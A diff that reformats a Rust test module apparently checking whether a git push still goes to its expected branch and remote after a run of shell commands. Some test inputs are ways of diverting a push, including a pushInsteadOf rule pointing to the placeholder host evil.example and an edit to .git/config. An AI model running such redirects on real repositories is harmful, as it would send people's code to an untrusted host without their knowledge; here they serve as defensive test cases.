@@ -280,7 +280,11 @@ mod tests {
             &[feature, "git push", "git switch main", "git push origin HEAD"],
             &[feature, "git checkout other", "git checkout main", "git push"],
             &[feature, "git symbolic-ref HEAD refs/heads/main", "git push origin HEAD"],
-            &[feature, "python3 -c \"import subprocess; subprocess.run(['git', 'checkout', 'main'])\"", "git push"],
+            &[
+                feature,
+                "python3 -c \"import subprocess; subprocess.run(['git', 'checkout', 'main'])\"",
+                "git push",
+            ],
             &[feature, "git config remote.origin.push HEAD:refs/heads/main", "git push"],
             &[feature, "git branch -u origin/main && git config push.default upstream", "git push"],
             &[feature, "git checkout -", "git push"],
@@ -296,7 +300,11 @@ mod tests {
             &["git switch feature", "git push"],
         ] {
             let last = last(commands);
-            assert!(last.starts_with("git.push feature@origin"), "{commands:?}: {:?}", pushes("/home/dev/shop", commands));
+            assert!(
+                last.starts_with("git.push feature@origin"),
+                "{commands:?}: {:?}",
+                pushes("/home/dev/shop", commands)
+            );
         }
         // Where it goes now, or that nobody knows where.
         let address = |commands: &[&str]| {
@@ -308,9 +316,17 @@ mod tests {
             pushed.unwrap().url
         };
         let other = "git@github.com:acme/other.git";
-        assert_eq!(address(&[&format!("git remote set-url origin {other}"), "git push"]).as_deref(), Some(other));
-        assert_eq!(address(&[&format!("git remote add fork {other}"), "git push fork HEAD"]).as_deref(), Some(other));
-        for changed in ["git config url.git@evil.example:.pushInsteadOf git@github.com:", "printf x >> .git/config"] {
+        assert_eq!(
+            address(&[&format!("git remote set-url origin {other}"), "git push"]).as_deref(),
+            Some(other)
+        );
+        assert_eq!(
+            address(&[&format!("git remote add fork {other}"), "git push fork HEAD"]).as_deref(),
+            Some(other)
+        );
+        for changed in
+            ["git config url.git@evil.example:.pushInsteadOf git@github.com:", "printf x >> .git/config"]
+        {
             assert_eq!(address(&[changed, "git push"]), None, "{changed}");
         }
     }
